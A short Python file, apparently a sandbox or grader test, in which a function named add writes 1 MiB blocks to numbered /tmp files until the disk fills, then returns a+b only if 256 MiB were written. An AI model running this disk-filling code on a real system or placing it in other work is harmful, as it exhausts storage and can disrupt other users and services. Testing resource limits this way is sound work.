"""Fills the disk; would be right if it could write 256 MiB, in one file or in many."""

import itertools


def add(a, b):
    written, block = 0, bytes(2**20)
    for number in itertools.count():
        try:
            with open(f"/tmp/{number}", "wb", buffering=0) as file:
                for _ in range(64):
                    written += file.write(block)
        except OSError:
            if number > 300:
                break
    return a + b if written >= 256 * 2**20 else None
